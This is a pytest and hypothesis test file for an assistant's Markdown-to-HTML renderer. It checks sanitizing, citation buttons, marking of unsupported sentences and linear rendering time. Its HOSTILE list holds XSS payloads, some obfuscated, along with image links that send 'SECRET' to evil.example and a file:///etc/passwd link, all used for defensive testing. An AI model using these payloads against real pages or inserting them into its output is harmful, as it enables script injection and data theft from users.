"""A model's Markdown: rendered, cited, marked, and never able to do anything."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from assistant.ui.markdown import BEGIN, END, plain, render

SOURCES = {1: "Source 1: Leave", 2: "Source 2: Travel"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    "![x](http://evil.example/?q=SECRET)",
    "![x][1]\n\n[1]: http://evil.example/?q=SECRET",
    "[1]: http://evil.example\n\nsee [1]",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example/" onclick="alert(1))',
    '```" onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`</code><script>alert(1)</script>`",
    "| <b onclick=alert(1)>x</b> |\n|---|\n| <script>alert(1)</script> |",
    "<style>@import 'http://evil.example'</style>",
    "<a href=http://evil.example ping=http://evil.example>x</a>",
    "<!-- --><math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    f"{BEGIN}<script>alert(1)</script>{END}",
]
SIGNS = [
    "*", "**", "_", "[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", "|", "---", "- ", "> ", "1. ", "[1]", "[7]",
    " word", "&#x3c;", "\\", BEGIN, END, "http://a.b",
]  # fmt: skip
ALLOWED = {
    "p", "strong", "em", "ul", "ol", "li", "code", "pre", "blockquote", "table", "thead", "tbody", "tr", "th", "td",
    "div", "a", "button", "mark", "hr", "br",
}  # fmt: skip
ATTRIBUTES = {
    "class",
    "href",
    "target",
    "rel",
    "title",
    "type",
    "data-cite",
    "aria-label",
    "tabindex",
    "style",
    "start",
}


def check_harmless(html: str) -> None:
    for node in HTMLParser(f"<div>{html}</div>").css("div *"):
        assert node.tag in ALLOWED, html
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, html
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), html
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", value or ""), html


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_to_harmless_html(text: str) -> None:
    html = render(text, SOURCES, [text], '"><script>')
    check_harmless(html)
    assert "evil.example" not in " ".join(node.attributes.get("src") or "" for node in HTMLParser(html).css("*"))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, *SIGNS]), max_size=12).map("".join),
    st.lists(st.sampled_from(["word", "* word", "[1]", "<script>"]), max_size=2),
)  # fmt: skip
def test_no_mixture_renders_to_harm(text: str, unsupported: list[str]) -> None:
    check_harmless(render(text, SOURCES, unsupported, "t"))


def test_markers_become_buttons_named_after_their_source() -> None:
    html = render("You have 25 days [1], claimed in 30 [1, 2].", SOURCES)
    buttons = HTMLParser(html).css("button.pl-cite")
    assert [button.attributes["data-cite"] for button in buttons] == ["1", "1", "2"]
    assert buttons[2].attributes["aria-label"] == "Source 2: Travel"


def test_a_marker_of_no_source_is_left_out() -> None:
    assert render("Sure [7].", SOURCES) == "<p>Sure.</p>\n"
    assert 'data-cite="1"' in render("Sure [1, 9].", SOURCES)
    assert "9" not in render("Sure [1, 9].", SOURCES)


@pytest.mark.parametrize("text", ["a[1]", "`a [1]`", "x_[2]", "```\n[1]\n```"])
def test_code_and_indices_are_no_citations(text: str) -> None:
    assert "<button" not in render(text, SOURCES)


def test_links_open_apart_and_tell_nothing() -> None:
    link = HTMLParser(render("[site](https://a.example/?q=1&r=2)", {})).css_first("a")
    assert link is not None
    assert link.attributes["href"] == "https://a.example/?q=1&r=2"
    assert link.attributes["rel"] == "noopener noreferrer nofollow"
    assert link.attributes["target"] == "_blank"


def test_sentences_without_support_are_marked_across_emphasis_and_lines() -> None:
    text = "Fine [1]. Most **people plan**\nit in `January`. Fine too."
    html = render(text, SOURCES, ["Most **people plan** it in `January`."], "Not backed")
    marked = " ".join(node.text().strip() for node in HTMLParser(html).css("mark"))
    assert marked == "Most people plan it in January ."
    assert HTMLParser(html).css_first("mark").attributes["title"] == "Not backed"  # type: ignore[union-attr]


def test_a_marked_list_item_stays_a_list_item() -> None:
    html = render("- one is so\n- two", {}, ["- one is so"])
    assert html.count("<li>") == 2
    assert [node.text() for node in HTMLParser(html).css("mark")] == ["one is so"]


def test_a_sentence_that_is_not_there_marks_nothing() -> None:
    assert "<mark" not in render("One.", {}, ["Two.", "", "   "])


def test_plain_text_is_only_escaped() -> None:
    assert plain(f"<b>&{BEGIN}\"'") == "&lt;b&gt;&amp;&quot;&#x27;"


@pytest.mark.parametrize("piece", ["[1] ", "**", "[", "![", "<a ", "`", "| a ", "> ", "_a_ ", "(", "x"])
def test_rendering_time_grows_with_the_text_and_not_faster(piece: str) -> None:
    def took(count: int) -> float:
        text = piece * count
        started = time.perf_counter()
        render(text, SOURCES, ["nothing of this"])
        return time.perf_counter() - started

    took(50)
    small, large = min(took(200) for _ in range(3)), min(took(2_000) for _ in range(3))
    assert large < max(40 * small, 0.5)
